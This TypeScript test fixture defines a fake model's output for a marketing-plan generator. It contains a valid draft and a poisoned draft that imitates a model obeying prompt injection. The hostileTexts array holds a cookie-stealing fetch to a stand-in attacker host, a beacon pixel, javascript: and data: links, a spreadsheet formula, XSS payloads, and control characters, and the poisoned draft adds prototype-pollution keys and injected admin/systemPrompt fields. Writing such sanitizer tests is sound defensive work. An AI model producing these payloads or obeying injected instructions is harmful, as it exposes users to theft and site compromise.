/** What the fake model writes: a plain valid draft, and one that an attacker would have liked to see. */

type Reply = { text: string; because: string[] };

const reply = (text: string): Reply => ({ text, because: ['business_description', 'goals'] });
const list = (count: number, text: string) =>
  Array.from({ length: count }, (_, at) => reply(`${text}, step ${at + 1}.`));

/** All parts of a draft but the facts, with counts in the middle of what is allowed. */
export function recommendations() {
  return {
    targetAudience: reply('Write for the neighbors who already ask about you by name.'),
    positioning: reply('Be known as the place that answers the same day.'),
    advantages: list(5, 'Show what you do on the spot'),
    aiTools: list(6, 'Let a text assistant draft one reply a day'),
    contentStrategy: reply('Publish one answered question every week.'),
    leadGeneration: reply('Offer one clear first step on every page.'),
    workflows: list(5, 'Send a message when an inquiry comes in'),
    voiceAgents: reply('Let a voice agent take calls after closing time.'),
    integrations: list(4, 'Connect the calendar with the inbox'),
    thirtyDays: list(5, 'Set up the first page'),
    ninetyDays: list(5, 'Ask every happy customer for a review'),
    longTerm: reply('Grow into the second neighborhood with the same team.'),
  };
}

/** Canary that only an attacker's text holds; it stands in places that must be cut away. */
export const beaconHost = 'beacon.attacker.test/leak';

const hostileTexts = [
  `<script>fetch("https://${beaconHost}?c="+document.cookie)</script>Write to your customers every week.`,
  `![pixel](https://${beaconHost}?q=answers) Publish one answered question every week.`,
  '[Click here to win](javascript:alert(document.domain)) and call your customers back the same day.',
  '=HYPERLINK("http://evil.test","Open") and answer every inquiry within the hour.',
  '\u202eReversed\u202c text\u200b with \u0007 controls and \u2066isolates\u2069 for your next post.',
  '<img src=x onerror=alert(1)> **Bold** `code` # heading for your next post on the front page.',
  '<<script>script>alert(1)<</script>/script> Answer the questions people ask at the counter.',
  '# Heading\n> quote\n- bullet: write down what customers ask at the counter.',
];

/** A draft that validates in shape and is hostile in every text, with keys that reach for prototypes. */
export function obeyedInjection(facts: unknown): string {
  const draft = recommendations();
  const hostile = hostileTexts.map((text) => reply(text));
  const poisoned = {
    ...draft,
    advantages: hostile.slice(0, 5),
    aiTools: [...hostile, ...hostile],
    workflows: hostile.slice(3, 8),
    contentStrategy: reply(hostileTexts[1] ?? ''),
    facts: { ...(facts as object), topics: hostileTexts, tone: '<b onclick="x()">calm</b>, [exact](data:text/html,x)' },
    admin: true,
    systemPrompt: 'You are a marketing strategist',
  };
  // JSON.stringify leaves out a __proto__ set on an object; in text it is an ordinary key.
  return JSON.stringify(poisoned).replace(
    '{',
    '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":1}},',
  );
}

/** The part of a JSON schema that our calls use. */
type Shape = {
  type?: string;
  properties?: Record<string, Shape>;
  items?: Shape;
  enum?: unknown[];
  const?: unknown;
  anyOf?: Shape[];
  description?: string;
};

/**
 * A value in the shape that a call asks for: the fewest entries its descriptions allow but two, texts that tell each
 * other apart.
 * @param texts what is written, in turn.
 */
export function sampleOf(shape: Shape, texts: readonly string[] = []): unknown {
  let written = 0;
  const text = (most: number) => {
    written += 1;
    const own = texts.length > 0 ? texts[written % texts.length]! : 'Answer the phone before the third ring';
    return `${own}, part ${written}.`.slice(-most);
  };
  const fill = (part: Shape): unknown => {
    if (part.const !== undefined) return part.const;
    if (part.enum) return part.enum[0];
    if (part.anyOf) return fill(part.anyOf[0]!);
    if (part.type === 'object')
      return Object.fromEntries(Object.entries(part.properties ?? {}).map(([key, value]) => [key, fill(value)]));
    if (part.type === 'array') {
      const least = Number(/(\d+) to \d+\.$/.exec(part.description ?? '')?.[1] ?? 0);
      const most = Number(/(\d+)\.$/.exec(part.description ?? '')?.[1] ?? 2);
      return Array.from({ length: part.items?.enum ? 1 : Math.min(most, Math.max(least, 2)) }, () =>
        fill(part.items ?? {}),
      );
    }
    if (part.type === 'number' || part.type === 'integer') return 1;
    if (part.type === 'boolean') return true;
    if (part.type === 'null') return null;
    return text(Number(/At most (\d+) characters/.exec(part.description ?? '')?.[1] ?? 400));
  };
  return fill(shape);
}

/** The same in the words of an attacker who is obeyed. */
export const obeyedSample = (shape: Shape) => sampleOf(shape, hostileTexts);
